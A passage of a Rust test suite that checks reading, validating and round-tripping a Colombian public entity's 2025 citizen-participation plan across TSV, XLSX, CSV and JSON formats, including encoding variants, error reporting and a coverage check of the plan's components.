//! The seed document through every reader and writer.

use chrono::NaiveDate;
use participa_domain::{OfficeRole, Plan, SignatureRole};
use participa_formats::{export_plan, import_plan, ExportFormat, Location, ReadOptions};
use rust_xlsxwriter::{Format, Workbook};

const SEED: &[u8] = include_bytes!("../../../seed/plan-participacion-ciudadana-2025.txt");

fn seed() -> Plan {
    import_plan("plan.txt", SEED, &ReadOptions::default()).unwrap_or_else(|e| panic!("{e}"))
}

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn seed_text() -> String {
    String::from_utf8(SEED.to_vec()).unwrap()
}

#[test]
fn the_seed_json_holds_every_field_of_the_document() {
    let json: serde_json::Value =
        serde_json::from_slice(&export_plan(&seed(), ExportFormat::Json)).unwrap();
    assert_eq!(json["title"], "Plan de Participación Ciudadana 2025");
    assert_eq!(json["year"], 2025);
    assert_eq!(json["entity"], "Caja Honor");
    let a = &json["alignment"];
    assert_eq!(
        a["policy"],
        "Política de participación ciudadana en la gestión pública"
    );
    assert_eq!(a["strategic_objective"]["code"], "5");
    assert_eq!(
        a["strategic_objective"]["text"],
        "Promover la innovación, transformación digital y mejora continua de los procesos con énfasis en analítica de datos e inteligencia artificial."
    );
    assert_eq!(a["office_objective"]["code"], "5.5");
    assert_eq!(
        a["office_objective"]["text"],
        "Promover la participación ciudadana y la Rendición de Cuentas en el marco del Modelo Integrado de Planeación y Gestión - MIPG"
    );
    assert_eq!(a["strategic_initiative"]["code"], "5.5.1");
    assert_eq!(
        a["strategic_initiative"]["text"],
        "Definición y ejecución de la estrategia de Rendición de Cuentas y Participación Ciudadana"
    );
    assert_eq!(json["objectives"].as_array().unwrap().len(), 1);
    assert!(json["objectives"][0]
        .as_str()
        .unwrap()
        .starts_with("Promover escenarios, mecanismos de interacción"));

    let legal = &json["legal_framework"];
    assert_eq!(
        legal["text"],
        "Constitución Política Artículo 20 y 270. Ley 1750 de 2015 artículos 2 y 50. Ley 1757 de 2015 y Decreto 1499 de 2017."
    );
    assert_eq!(
        legal["norms"],
        serde_json::json!([
            {"kind": "Constitución Política", "number": null, "year": null, "articles": ["20", "270"]},
            {"kind": "Ley", "number": "1750", "year": 2015, "articles": ["2", "50"]},
            {"kind": "Ley", "number": "1757", "year": 2015, "articles": []},
            {"kind": "Decreto", "number": "1499", "year": 2017, "articles": []}
        ])
    );

    let offices: Vec<(String, String, String)> = json["offices"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| {
            (
                o["code"].as_str().unwrap().into(),
                o["name"].as_str().unwrap().into(),
                o["role"].as_str().unwrap().into(),
            )
        })
        .collect();
    let expected = [
        ("OAPLA", "Oficina Asesora de Planeación", "leader"),
        ("ARCOM", "Área de Comunicaciones", "support"),
        ("ASERA", "Área de Servicio al Afiliado", "support"),
        ("ARACF", "Área de Atención Consumidor Financiero", "support"),
        ("ARVIV", "Área de Vivienda", "support"),
    ];
    assert_eq!(
        offices,
        expected.map(|(c, n, r)| (c.to_string(), n.to_string(), r.to_string()))
    );
    assert!(json["offices_text"]
        .as_str()
        .unwrap()
        .starts_with("Líder: Oficina Asesora de Planeación (OAPLA)"));

    let activities = json["activities"].as_array().unwrap();
    assert_eq!(activities.len(), 15);
    let numbers: Vec<u64> = activities
        .iter()
        .map(|a| a["number"].as_u64().unwrap())
        .collect();
    assert_eq!(numbers, (1..=15).collect::<Vec<_>>());
    assert_eq!(
        activities[0]["description"],
        "Alistamiento para rendición de cuentas"
    );
    assert_eq!(activities[0]["start"], "2025-02-05");
    assert_eq!(activities[0]["end"], "2025-03-14");
    assert_eq!(activities[0]["responsible"], serde_json::json!(["OAPLA"]));
    assert_eq!(activities[0]["deliverable"], "Instructivo y estrategia");
    assert_eq!(
        activities[2]["responsible"],
        serde_json::json!(["OAPLA", "ARCOM"])
    );
    assert_eq!(
        activities[2]["responsible_text"],
        "Oficina Asesora de Planeación y Área de Comunicaciones"
    );
    assert_eq!(activities[8]["start"], "2025-02-10");
    assert_eq!(activities[8]["end"], "2025-12-11");
    assert_eq!(
        activities[10]["description"],
        "Campaña para promover mayor participación de los afiliados y consumidores financieros en general, para la manifestación de sugerencias que permitan establecer mejoras en el servicio."
    );
    assert_eq!(
        activities[12]["deliverable"],
        "Realizar actividad de participación en redes sociales (Tiktok live)"
    );
    assert_eq!(activities[14]["end"], "2025-11-30");

    assert_eq!(
        json["signatures"],
        serde_json::json!([
            {"role": "consolidated", "name": "Carlos Arturo Contreras", "position": "Profesional Especializado Oficina Asesora de Planeación"},
            {"role": "reviewed", "name": "Lina María Rendón Lozano", "position": "Jefe Oficina Asesora de Planeación"}
        ])
    );
    assert_eq!(
        json["version"],
        serde_json::json!({"number": 1, "date": "2023-11-27"})
    );
}

#[test]
fn every_activity_of_the_seed_matches_its_row() {
    let plan = seed();
    let text = seed_text();
    let rows: Vec<Vec<&str>> = text
        .lines()
        .map(|l| l.split('\t').collect::<Vec<_>>())
        .filter(|c| c.len() == 5 && c[0].starts_with(|ch: char| ch.is_ascii_digit()))
        .collect();
    assert_eq!(rows.len(), 15);
    for (a, row) in plan.activities.iter().zip(rows) {
        assert_eq!(format!("{}. {}", a.number, a.description), row[0]);
        assert_eq!(
            participa_formats::spanish_date::format_short(a.start),
            row[1]
        );
        assert_eq!(participa_formats::spanish_date::format_short(a.end), row[2]);
        let codes: Vec<&str> = a.responsible.iter().map(|c| c.as_str()).collect();
        assert_eq!(
            format!("{} {}", codes.join("-"), a.responsible_text),
            row[3]
        );
        assert_eq!(a.deliverable, row[4]);
    }
    assert_eq!(plan.signatures[0].role, SignatureRole::Consolidated);
    assert_eq!(plan.leader().unwrap().role, OfficeRole::Leader);
}

#[test]
fn windows_1252_crlf_and_bom_variants_import_equal() {
    let reference = seed();
    let text = seed_text();
    let crlf = text.replace('\n', "\r\n");
    let (cp1252, _, unmappable) = encoding_rs::WINDOWS_1252.encode(&crlf);
    assert!(!unmappable);
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend_from_slice(text.as_bytes());
    for (name, bytes) in [
        ("cp1252-crlf.txt", cp1252.to_vec()),
        (
            "cp1252-lf.txt",
            encoding_rs::WINDOWS_1252.encode(&text).0.to_vec(),
        ),
        ("utf8-crlf.txt", crlf.as_bytes().to_vec()),
        ("utf8-bom.txt", bom),
    ] {
        let plan =
            import_plan(name, &bytes, &ReadOptions::default()).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(plan, reference, "{name}");
        assert!(!plan.title.contains('Ã'), "mojibake in {name}");
    }
}

/// The seed typed into a spreadsheet by hand: merged title rows, real date cells for
/// some dates and text for others, the header row repeated mid-table.
fn hand_made_xlsx() -> Vec<u8> {
    let text = seed_text();
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("Formulación").unwrap();
    let date_format = Format::new().set_num_format("d-mmm-yy");
    for (r, line) in text.lines().enumerate() {
        let r = r as u32;
        let cells: Vec<&str> = line.split('\t').collect();
        if cells.len() == 1 && cells[0].starts_with("Formulación") {
            sheet
                .merge_range(r, 0, r, 4, cells[0], &Format::new())
                .unwrap();
            continue;
        }
        if cells.len() == 2 {
            sheet.write_string(r, 0, cells[0]).unwrap();
            sheet
                .merge_range(r, 1, r, 4, cells[1], &Format::new())
                .unwrap();
            continue;
        }
        for (c, cell) in cells.iter().enumerate() {
            let is_date = (c == 1 || c == 2) && cell.contains('-');
            if is_date && r.is_multiple_of(2) {
                let d = participa_formats::spanish_date::parse_date(cell).unwrap();
                sheet
                    .write_date_with_format(r, c as u16, d, &date_format)
                    .unwrap();
            } else if !cell.is_empty() {
                sheet.write_string(r, c as u16, *cell).unwrap();
            }
        }
    }
    book.save_to_buffer().unwrap()
}

#[test]
fn a_hand_made_xlsx_imports_equal_to_the_tsv() {
    let plan = import_plan("plan.xlsx", &hand_made_xlsx(), &ReadOptions::default())
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(plan, seed());
}

#[test]
fn two_bad_rows_are_both_reported_with_line_and_field() {
    let text = seed_text()
        .replace("5-feb-25\t14-mar-25\tOAPLA", "5-fbr-25\t14-mar-25\tOAPLA")
        .replace("1-ago-25\t29-ago-25", "1-ago-25\t29-jul-25");
    let errors = import_plan("malo.txt", text.as_bytes(), &ReadOptions::default()).unwrap_err();
    assert_eq!(errors.file, "malo.txt");
    assert_eq!(errors.errors.len(), 2, "{errors}");
    let first = &errors.errors[0];
    assert_eq!(first.location, Location::Line(19));
    assert_eq!(first.field, "Fecha inicial");
    assert!(first.message.contains("mes desconocido «fbr»"), "{first}");
    let second = &errors.errors[1];
    assert_eq!(second.location, Location::Line(23));
    assert_eq!(second.field, "Fecha Final");
    assert!(
        second
            .message
            .contains("la actividad 5 termina (29 jul 2025) antes de empezar (1 ago 2025)"),
        "{second}"
    );
    let shown = errors.to_string();
    assert!(
        shown.contains("malo.txt: línea 19: Fecha inicial:"),
        "{shown}"
    );
    assert!(
        shown.contains("malo.txt: línea 23: Fecha Final:"),
        "{shown}"
    );
}

#[test]
fn xlsx_errors_name_sheet_and_cell() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name("Plan").unwrap();
    for (r, line) in seed_text().lines().enumerate() {
        for (c, cell) in line.split('\t').enumerate() {
            let value =
                if cell == "OAPLA-ARCOM Oficina Asesora de Planeación y Área de Comunicaciones" {
                    "OAPLA-ARCOM-OTIC Oficina Asesora de Planeación"
                } else {
                    cell
                };
            sheet.write_string(r as u32, c as u16, value).unwrap();
        }
    }
    let errors = import_plan(
        "plan.xlsx",
        &book.save_to_buffer().unwrap(),
        &ReadOptions::default(),
    )
    .unwrap_err();
    assert_eq!(errors.errors.len(), 1, "{errors}");
    let e = &errors.errors[0];
    assert_eq!(e.location.to_string(), "hoja «Plan», celda D21");
    assert_eq!(e.field, "Responsable");
    assert!(e.message.contains("OTIC"), "{e}");
}

#[test]
fn unknown_office_missing_header_and_stray_lines_are_all_reported() {
    let text = seed_text()
        .replace("Marco legal:\t", "Marco lega:\t")
        .replace("ARVIV Área de Vivienda", "ARVI Área de Vivienda")
        .replace("Revisó\n", "Firmó\n");
    let errors = import_plan("x.txt", text.as_bytes(), &ReadOptions::default()).unwrap_err();
    let shown = errors.to_string();
    assert!(
        shown.contains("línea 15: Encabezado: fila no reconocida «Marco lega:"),
        "{shown}"
    );
    assert!(
        shown.contains("documento: Marco legal: falta la fila «Marco legal:»"),
        "{shown}"
    );
    assert!(
        shown.contains("línea 32: Responsable: la actividad 12 nombra la dependencia ARVI"),
        "{shown}"
    );
    assert!(
        shown.contains("línea 42: Firmas: fila no reconocida «Firmó»"),
        "{shown}"
    );
    assert!(
        shown.contains("línea 43: Firmas: fila no reconocida «Lina María Rendón Lozano»"),
        "{shown}"
    );
    assert_eq!(errors.errors.len(), 6, "{shown}"); // + line 44, the position
}

#[test]
fn every_export_reads_back_equal() {
    let plan = seed();
    for format in [ExportFormat::Tsv, ExportFormat::Xlsx] {
        let bytes = export_plan(&plan, format);
        let back = import_plan(
            &format!("x.{format}"),
            &bytes,
            &ReadOptions {
                entity: "Otra".into(),
                ..Default::default()
            },
        )
        .unwrap_or_else(|e| panic!("{format}: {e}"));
        assert_eq!(back, plan, "{format}");
    }
    let json: participa_formats::json::PlanJson =
        serde_json::from_slice(&export_plan(&plan, ExportFormat::Json)).unwrap();
    assert_eq!(json.into_plan().unwrap(), plan);
}

#[test]
fn the_tsv_export_is_the_seed_layout() {
    let tsv = String::from_utf8(export_plan(&seed(), ExportFormat::Tsv)).unwrap();
    let seed = seed_text();
    let seed_lines: Vec<&str> = seed
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(str::trim_end)
        .collect();
    // Everything the seed says, line by line, save the page-break header repeat, the
    // version spelling, and the one line it adds (the entity, which the seed leaves implicit).
    let one_line_positions = [
        "Profesional Especializado Oficina",
        "Asesora de Planeación",
        "Revisó",
        "Consolidó:",
    ];
    for line in seed_lines
        .iter()
        .filter(|l| !l.starts_with("Versión") && !one_line_positions.contains(l))
    {
        assert!(
            tsv.lines().any(|t| t == *line),
            "missing line {line:?}\n{tsv}"
        );
    }
    assert!(tsv.contains("Entidad\tCaja Honor\n"));
    assert!(tsv.contains("\n\nConsolidó:\nCarlos Arturo Contreras\nProfesional Especializado Oficina Asesora de Planeación\n\n"));
    assert!(tsv.contains("Revisó:\nLina María Rendón Lozano\nJefe Oficina Asesora de Planeación\n"));
    assert!(tsv.ends_with("Versión 1: 2023-11-27\n"));
}

#[test]
fn csv_has_bom_header_and_one_row_per_activity() {
    let csv = export_plan(&seed(), ExportFormat::Csv);
    assert!(csv.starts_with(&[0xEF, 0xBB, 0xBF]));
    let mut reader = csv::Reader::from_reader(&csv[3..]);
    let header = reader.headers().unwrap().clone();
    assert_eq!(
        header.iter().collect::<Vec<_>>(),
        participa_formats::csv_export::CSV_HEADER
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 15);
    assert_eq!(&rows[2][3], "3");
    assert_eq!(&rows[2][7], "OAPLA-ARCOM");
    assert_eq!(
        &rows[2][8],
        "Oficina Asesora de Planeación; Área de Comunicaciones"
    );
    assert_eq!(&rows[0][5], "2025-02-05");
    // Tags come last, as codes.
    let tagged = participa_formats::tags_tsv::apply_tags(
        "etiquetas-2025.tsv",
        include_bytes!("../../../seed/etiquetas-2025.tsv"),
        &seed(),
    )
    .unwrap();
    let csv = export_plan(&tagged, ExportFormat::Csv);
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(&csv[3..])
        .records()
        .map(Result::unwrap)
        .collect();
    assert_eq!(&rows[10][10], "diagnostico;evaluacion_seguimiento");
    assert_eq!(&rows[10][12], "dialogo;responsabilidad");
    assert_eq!(&rows[10][17], "PCI201;PCI203;PCI213");
}

#[test]
fn the_xlsx_export_has_real_dates_and_a_frozen_header() {
    use calamine::{Data, Reader, Xlsx};
    let bytes = export_plan(&seed(), ExportFormat::Xlsx);
    let mut book: Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).unwrap();
    let range = book.worksheet_range("Plan").unwrap();
    let header_row = (0..range.height())
        .find(|r| range.get((*r, 0)) == Some(&Data::String("Actividades".into())))
        .unwrap();
    match range.get((header_row + 1, 1)).unwrap() {
        Data::DateTime(d) => assert_eq!(d.as_datetime().unwrap().date(), date(2025, 2, 5)),
        other => panic!("expected a date cell, got {other:?}"),
    }
    // The frozen pane sits right under the activities' title row.
    let xml = unzip_sheet(&bytes);
    assert!(
        xml.contains(&format!("topLeftCell=\"A{}\"", header_row + 2)),
        "{xml}"
    );
    assert!(xml.contains("state=\"frozen\""));
}

fn unzip_sheet(bytes: &[u8]) -> String {
    // Find the worksheet part by scanning the zip's local headers: enough for a test.
    let mut archive = zip_entries(bytes);
    archive
        .remove("xl/worksheets/sheet1.xml")
        .expect("sheet1 in the workbook")
}

fn zip_entries(bytes: &[u8]) -> std::collections::HashMap<String, String> {
    use std::io::Read;
    let mut out = std::collections::HashMap::new();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let mut s = String::new();
        if f.read_to_string(&mut s).is_ok() {
            out.insert(f.name().unwrap().to_string(), s);
        }
    }
    out
}

mod generated {
    //! Round trips over generated plans: whatever the planning office writes, exporting
    //! and importing again gives the same plan.

    use super::*;
    use participa_domain::{
        offices_sentence, Activity, ActivityNumber, Alignment, AlignmentCode, CodedText,
        DocumentVersion, LegalFramework, Office, OfficeCode, PlanDraft, PlanYear, Signature,
    };
    use proptest::prelude::*;
    use proptest::sample::subsequence;

    const WORDS: &[&str] = &[
        "participación",
        "ciudadana",
        "rendición",
        "cuentas",
        "afiliados",
        "vivienda",
        "Área",
        "Atención",
        "señal",
        "año",
        "información",
        "diálogo",
        "evaluación",
        "MIPG",
        "PAI",
        "ferias",
        "Colombia",
        "Bogotá",
        "del",
        "de",
        "y",
        "la",
        "los",
        "(virtual)",
        "\"foro\"",
        "100%",
        "2025",
        "n.º",
        "—",
        "ñandú",
        "über",
        "café,",
    ];
    const NAME_HEADS: &[&str] = &["Área", "Oficina", "Grupo", "Subdirección", "Dirección"];

    fn words(min: usize, max: usize) -> impl Strategy<Value = String> {
        prop::collection::vec(prop::sample::select(WORDS), min..=max).prop_map(|w| w.join(" "))
    }

    fn sentence() -> impl Strategy<Value = String> {
        (prop::sample::select(NAME_HEADS), words(1, 12)).prop_map(|(h, w)| format!("{h} {w}"))
    }

    fn office_name() -> impl Strategy<Value = String> {
        (
            prop::sample::select(NAME_HEADS),
            prop::collection::vec(
                prop::sample::select(
                    &[
                        "de",
                        "Comunicaciones",
                        "Planeación",
                        "y",
                        "Vivienda",
                        "Atención",
                        "Servicio",
                        "al",
                        "Afiliado",
                        "TIC",
                    ][..],
                ),
                1..4,
            ),
        )
            .prop_map(|(h, w)| format!("{h} {}", w.join(" ")))
    }

    fn code() -> impl Strategy<Value = OfficeCode> {
        "[A-Z]{2}[A-Z0-9]{0,5}".prop_map(|c| OfficeCode::parse(&c).unwrap())
    }

    fn date() -> impl Strategy<Value = NaiveDate> {
        (2000i32..2099, 1u32..=365).prop_map(|(y, d)| NaiveDate::from_yo_opt(y, d).unwrap())
    }

    prop_compose! {
        fn offices()(codes in prop::collection::btree_set(code(), 1..6))
            (names in prop::collection::vec(office_name(), codes.len()),
             leaders in 1..=codes.len(),
             codes in Just(codes)) -> Vec<Office> {
            codes.into_iter().zip(names).enumerate().map(|(i, (code, name))| Office {
                code,
                name,
                role: if i < leaders { OfficeRole::Leader } else { OfficeRole::Support },
            }).collect()
        }
    }

    /// An activity of a plan for `year`: its dates within the vigencia's window (the year
    /// before to the year after, `participa_domain::plan::activity_window`).
    fn activity(number: u32, offices: Vec<Office>, year: i32) -> impl Strategy<Value = Activity> {
        let (_, last) = participa_domain::plan::activity_window(year);
        (
            sentence(),
            (year - 1..=year, 1u32..=365).prop_map(|(y, d)| NaiveDate::from_yo_opt(y, d).unwrap()),
            0u64..500,
            subsequence(offices.clone(), 1..=offices.len().min(3)),
            sentence(),
        )
            .prop_map(
                move |(description, start, days, responsible, deliverable)| {
                    // An office's name is how its own rows name it.
                    let text = responsible
                        .iter()
                        .map(|o| o.name.clone())
                        .collect::<Vec<_>>()
                        .join(" y ");
                    Activity {
                        number: ActivityNumber::new(number).unwrap(),
                        description,
                        start,
                        end: (start + chrono::Days::new(days)).min(last),
                        responsible: responsible.into_iter().map(|o| o.code).collect(),
                        responsible_text: text,
                        deliverable,
                        tags: Default::default(),
                        details: Default::default(),
                    }
                },
            )
    }

    prop_compose! {
        fn plan()(offices in offices(), n in 1usize..25, year in 2000i32..2099)
            (activities in (1..=n as u32).map(|i| activity(i * 2 - 1, offices.clone(), year)).collect::<Vec<_>>(),
             offices in Just(offices),
             year in Just(year),
             entity in sentence(),
             title in words(1, 6),
             policy in sentence(),
             objectives in prop::collection::vec(sentence(), 1..4),
             legal in words(0, 20),
             texts in prop::collection::vec(sentence(), 3),
             codes in (1u32..20, 1u32..20, 1u32..20),
             signatures in subsequence(SignatureRole::ALL.to_vec(), 0..=3),
             signers in prop::collection::vec((sentence(), words(0, 8)), 3),
             version in prop::option::of((1u32..50, date()))) -> Plan {
            let (a, b, c) = codes;
            let coded = |code: String, text: &String| CodedText { code: AlignmentCode::parse(&code).unwrap(), text: text.clone() };
            let draft = PlanDraft {
                entity,
                title: format!("Plan {title} {year}"),
                year: PlanYear::new(year).unwrap(),
                alignment: Alignment {
                    policy,
                    strategic_objective: coded(format!("{a}"), &texts[0]),
                    office_objective: coded(format!("{a}.{b}"), &texts[1]),
                    strategic_initiative: coded(format!("{a}.{b}.{c}"), &texts[2]),
                },
                objectives,
                legal_framework: LegalFramework::from_text(&format!("Ley 1757 de 2015 {legal}")),
                offices_text: offices_sentence(&offices),
                offices,
                activities,
                signatures: signatures.into_iter().zip(signers).map(|(role, (name, position))| Signature { role, name, position }).collect(),
                version: version.map(|(number, date)| DocumentVersion { number, date }),
            };
            Plan::try_from_draft(draft).unwrap()
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn tsv_round_trip(plan in plan()) {
            let bytes = export_plan(&plan, ExportFormat::Tsv);
            let back = import_plan("g.tsv", &bytes, &ReadOptions::default())
                .map_err(|e| TestCaseError::fail(format!("{e}\n{}", String::from_utf8_lossy(&bytes))))?;
            prop_assert_eq!(back, plan);
        }

        #[test]
        fn xlsx_round_trip(plan in plan()) {
            let bytes = export_plan(&plan, ExportFormat::Xlsx);
            let back = import_plan("g.xlsx", &bytes, &ReadOptions::default())
                .map_err(|e| TestCaseError::fail(e.to_string()))?;
            prop_assert_eq!(back, plan);
        }

        #[test]
        fn windows_1252_round_trip(plan in plan()) {
            let text = String::from_utf8(export_plan(&plan, ExportFormat::Tsv)).unwrap().replace('\n', "\r\n");
            let (bytes, _, unmappable) = encoding_rs::WINDOWS_1252.encode(&text);
            prop_assume!(!unmappable);
            let back = import_plan("g.txt", &bytes, &ReadOptions::default())
                .map_err(|e| TestCaseError::fail(e.to_string()))?;
            prop_assert_eq!(back, plan);
        }

        /// Issue 13, item 8: texts that start like formulas, or with the quote that
        /// guards them, come back from the TSV as they were.
        #[test]
        fn tsv_round_trip_with_formula_like_texts(
            plan in plan(),
            heads in prop::collection::vec(
                prop::sample::select(&["=", "+", "-", "@", "'", "''", "=-", "'=", "@@", "-'"][..]),
                4,
            ),
        ) {
            let mut d = plan.into_draft();
            d.alignment.policy = format!("{}{}", heads[0], d.alignment.policy);
            d.objectives[0] = format!("{}{}", heads[1], d.objectives[0]);
            for (i, a) in d.activities.iter_mut().enumerate() {
                a.deliverable = format!("{}{}", heads[(i + 2) % 4], a.deliverable);
                a.description = format!("{}{}", heads[(i + 3) % 4], a.description);
            }
            for (i, s) in d.signatures.iter_mut().enumerate() {
                s.name = format!("{}{}", heads[i % 4], s.name);
            }
            let plan = Plan::try_from_draft(d).unwrap();
            let bytes = export_plan(&plan, ExportFormat::Tsv);
            let back = import_plan("g.tsv", &bytes, &ReadOptions::default())
                .map_err(|e| TestCaseError::fail(format!("{e}\n{}", String::from_utf8_lossy(&bytes))))?;
            prop_assert_eq!(back, plan);
        }

        #[test]
        fn json_round_trip(plan in plan()) {
            let json: participa_formats::json::PlanJson =
                serde_json::from_slice(&export_plan(&plan, ExportFormat::Json)).unwrap();
            prop_assert_eq!(json.into_plan().unwrap(), plan);
        }
    }
}

mod layout_variants {
    //! Forms of the same layout that office documents take.

    use super::*;

    fn with(replacements: &[(&str, &str)]) -> String {
        let mut text = seed_text();
        for (from, to) in replacements {
            assert!(text.contains(from), "the seed has {from:?}");
            text = text.replacen(from, to, 1);
        }
        text
    }

    fn read(text: &str) -> Plan {
        import_plan("v.txt", text.as_bytes(), &ReadOptions::default())
            .unwrap_or_else(|e| panic!("{e}"))
    }

    #[test]
    fn signatures_side_by_side_with_an_approval() {
        let block = "Consolidó:\nCarlos Arturo Contreras\nProfesional Especializado Oficina\nAsesora de Planeación\n\nRevisó\nLina María Rendón Lozano\nJefe Oficina Asesora de Planeación\n";
        let side = "Consolidó:\t\tRevisó:\t\tAprobó:\nCarlos Arturo Contreras\t\tLina María Rendón Lozano\t\tComité Institucional de Gestión y Desempeño\nProfesional Especializado Oficina\t\tJefe Oficina Asesora de Planeación\t\tActa No. 1 de 2025\nAsesora de Planeación\n";
        let plan = read(&with(&[(block, side)]));
        let got: Vec<(SignatureRole, &str, &str)> = plan
            .signatures
            .iter()
            .map(|s| (s.role, s.name.as_str(), s.position.as_str()))
            .collect();
        assert_eq!(
            got,
            vec![
                (
                    SignatureRole::Consolidated,
                    "Carlos Arturo Contreras",
                    "Profesional Especializado Oficina Asesora de Planeación"
                ),
                (
                    SignatureRole::Reviewed,
                    "Lina María Rendón Lozano",
                    "Jefe Oficina Asesora de Planeación"
                ),
                (
                    SignatureRole::Approved,
                    "Comité Institucional de Gestión y Desempeño",
                    "Acta No. 1 de 2025"
                ),
            ]
        );
    }

    #[test]
    fn a_deliverable_that_reads_like_a_signature_label_stays_a_deliverable() {
        let plan = read(&with(&[(
            "\tInstructivo y estrategia",
            "\tAprobó: el comité",
        )]));
        assert_eq!(plan.activities[0].deliverable, "Aprobó: el comité");
        assert_eq!(plan.signatures.len(), 2);
    }

    #[test]
    fn version_lines_in_their_usual_spellings() {
        for (line, number, d) in [
            ("Versión1: 2023-11-27", 1, date(2023, 11, 27)),
            ("Versión 2: 15-ene-25", 2, date(2025, 1, 15)),
            ("VERSION 3 - 2/03/2025", 3, date(2025, 3, 2)),
            ("Versión 4\t3 de marzo de 2025", 4, date(2025, 3, 3)),
        ] {
            let plan = read(&with(&[("Versión1: 2023-11-27", line)]));
            let v = plan.version.clone().unwrap();
            assert_eq!((v.number, v.date), (number, d), "{line}");
        }
        let errors = import_plan(
            "v.txt",
            with(&[("Versión1: 2023-11-27", "Versión: pronto")]).as_bytes(),
            &ReadOptions::default(),
        )
        .unwrap_err();
        assert_eq!(errors.errors.len(), 1);
        assert_eq!(errors.errors[0].location, Location::Line(46));
        assert!(
            errors.errors[0]
                .message
                .contains("falta el número de versión"),
            "{errors}"
        );
    }

    #[test]
    fn objectives_continue_on_rows_with_an_empty_label_and_an_entity_row_names_the_entity() {
        let plan = read(&with(&[
            ("Marco legal:", "\tFortalecer el control social.\nMarco legal:"),
            ("Formulación\tFormulación", "Entidad\tCaja Promotora de Vivienda Militar y de Policía\nFormulación\tFormulación"),
        ]));
        assert_eq!(plan.objectives.len(), 2);
        assert_eq!(plan.objectives[1], "Fortalecer el control social.");
        assert_eq!(
            plan.entity,
            "Caja Promotora de Vivienda Militar y de Policía"
        );
    }

    #[test]
    fn labels_and_the_table_title_in_other_cases() {
        let plan = read(&with(&[
            (
                "Actividades\tFecha inicial\tFecha Final\tResponsable\tPRODUCTO O ENTREGABLE",
                "ACTIVIDADES\tFECHA INICIAL\tFECHA FINAL\tRESPONSABLE\tProducto o entregable",
            ),
            ("Objetivo estratégico\t", "OBJETIVO ESTRATEGICO:\t"),
        ]));
        assert_eq!(plan, seed());
    }

    #[test]
    fn a_file_that_is_not_a_plan_says_what_is_missing() {
        let errors = import_plan(
            "lista.txt",
            "nombre\tcorreo\nAna\tana@example.org\n".as_bytes(),
            &ReadOptions::default(),
        )
        .unwrap_err();
        let shown = errors.to_string();
        for field in [
            "Política de Gestión y Desempeño Institucional",
            "Objetivo estratégico",
            "Marco legal",
            "Dependencias responsables",
            "Actividades",
        ] {
            assert!(shown.contains(field), "{field} not named in {shown}");
        }
    }

    #[test]
    fn spreadsheet_serial_numbers_in_date_columns_are_dates() {
        let mut book = Workbook::new();
        let sheet = book.add_worksheet();
        for (r, line) in seed_text().lines().enumerate() {
            for (c, cell) in line.split('\t').enumerate() {
                if c == 1 && cell == "5-feb-25" {
                    sheet.write_number(r as u32, 1, 45693.0).unwrap();
                } else {
                    sheet.write_string(r as u32, c as u16, cell).unwrap();
                }
            }
        }
        let plan = import_plan(
            "n.xlsx",
            &book.save_to_buffer().unwrap(),
            &ReadOptions::default(),
        )
        .unwrap();
        assert_eq!(plan, seed());
    }
}

mod coverage_of_the_seed {
    //! The coverage check on the seed plan tagged with seed/etiquetas-2025.tsv.

    use participa_domain::coverage::check;
    use participa_domain::tagging::Component;
    use participa_domain::Plan;
    use participa_formats::tags_tsv::apply_tags;
    use participa_formats::{import_plan, ReadOptions};

    const SEED: &[u8] = include_bytes!("../../../seed/plan-participacion-ciudadana-2025.txt");
    const TAGS: &[u8] = include_bytes!("../../../seed/etiquetas-2025.tsv");

    fn tagged_seed() -> Plan {
        let plan = import_plan("seed.txt", SEED, &ReadOptions::default()).unwrap();
        apply_tags("etiquetas-2025.tsv", TAGS, &plan).unwrap()
    }

    fn codes(plan: &Plan) -> Vec<String> {
        check(plan).into_iter().map(|f| f.code).collect()
    }

    #[test]
    fn the_tagged_seed_lacks_the_gaps_the_reference_names_and_cites_ley_1750() {
        let plan = tagged_seed();
        let findings = check(&plan);
        let got = codes(&plan);
        assert_eq!(
            got,
            vec![
                "MURC_ETAPA:seguimiento_evaluacion",
                "GRUPOS_VALOR",
                "INCIDENCIA",
                "COMPONENTE:caracterizacion",
                "COMPONENTE:respuestas_audiencia",
                "COMPONENTE:evaluacion_espacios",
                "COMPONENTE:plan_mejoramiento",
                "COMPONENTE:menu_participa",
                "COMPONENTE:control_social",
                "COMPONENTE:gestion_conocimiento",
                "NORMA:Ley 1750 de 2015",
                "VERSION",
            ]
        );
        let norm = findings
            .iter()
            .find(|f| f.code.starts_with("NORMA"))
            .unwrap();
        assert!(
            norm.message.contains("¿quiso decir la Ley 1757 de 2015"),
            "{}",
            norm.message
        );
        let answers = findings
            .iter()
            .find(|f| f.code == "COMPONENTE:respuestas_audiencia")
            .unwrap();
        assert!(answers.source.contains("Ley 1757 de 2015 art. 56"));
        assert!(findings
            .iter()
            .all(|f| !f.source.is_empty() && !f.suggestion.is_empty()));
        let groups = findings.iter().find(|f| f.code == "GRUPOS_VALOR").unwrap();
        assert!(groups.message.contains("1, 2, 3"), "{}", groups.message);
        // Influence is set on activities 2, 3, 4, 5, 7 and 12 only.
        let influence = findings.iter().find(|f| f.code == "INCIDENCIA").unwrap();
        assert_eq!(
            influence.message,
            "Las actividades 1, 6, 8, 9, 10, 11, 13, 14 y 15 no indican el nivel de incidencia de la ciudadanía."
        );
        assert_eq!(influence.activities, vec![1, 6, 8, 9, 10, 11, 13, 14, 15]);
    }

    #[test]
    fn an_activity_edited_to_cover_a_gap_makes_its_finding_disappear() {
        let mut draft = tagged_seed().into_draft();
        let a13 = draft
            .activities
            .iter_mut()
